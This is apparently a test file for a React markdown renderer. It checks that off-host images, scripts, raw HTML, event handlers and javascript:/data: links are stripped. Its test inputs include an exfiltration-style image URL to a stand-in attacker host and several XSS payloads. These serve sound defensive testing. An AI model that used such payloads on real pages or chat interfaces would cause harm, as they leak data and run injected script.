import { cleanup, render } from '@testing-library/react';
import { afterEach, expect, it } from 'vitest';
import { MarkdownRenderer } from './markdown-renderer.tsx';

afterEach(cleanup);
const html = (markdown: string) => render(<MarkdownRenderer>{markdown}</MarkdownRenderer>).container;

it('never loads a picture from another host, and says what it shows instead', () => {
  const page = html(
    '![a chart](https://evil.example/?q=secret) ![](//evil.example/x.png) ![own](/api/files/1)',
  );
  expect([...page.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['/api/files/1']);
  expect(page.textContent).toContain('Image: a chart');
});

it('lets no script, raw HTML or event handler through', () => {
  const page = html('<script>alert(1)</script><img src=x onerror=alert(1)>\n\n<b onclick="x()">bold</b>');
  expect(page.querySelector('script, img, b')).toBeNull();
});

it('opens links elsewhere without an opener, and drops those that are none', () => {
  const page = html(
    '[a](https://example.com) [b](javascript:alert(1)) [c](data:text/html,x) [d](//evil.example)',
  );
  const links = [...page.querySelectorAll('a')];
  expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.com']);
  expect(links[0]?.getAttribute('rel')).toContain('noopener');
  expect(links[0]?.getAttribute('target')).toBe('_blank');
});

it('renders tables, and lets the keyboard scroll them', () => {
  const page = html('| a | b |\n|---|---|\n| 1 | 2 |');
  expect(page.querySelectorAll('td')).toHaveLength(2);
  expect(page.querySelector('[role=region][tabindex="0"] > table')).not.toBeNull();
});
